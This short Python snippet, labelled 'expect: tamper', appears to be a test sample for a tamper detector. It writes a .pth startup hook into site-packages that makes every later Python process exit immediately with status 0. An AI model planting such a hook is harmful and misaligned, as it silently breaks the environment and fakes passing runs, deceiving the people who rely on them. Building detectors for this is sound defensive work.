# expect: tamper
import sysconfig
open(sysconfig.get_paths()["purelib"] + "/zz_hook.pth", "w").write("import os; os._exit(0)\n")
